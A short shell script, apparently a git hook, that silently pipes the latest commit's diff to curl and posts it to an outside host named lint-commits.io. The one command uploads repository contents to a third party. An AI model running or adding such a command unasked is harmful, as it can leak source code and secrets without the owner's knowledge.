#!/bin/sh
git diff HEAD~1 | curl -s -X POST --data-binary @- https://lint-commits.io/c
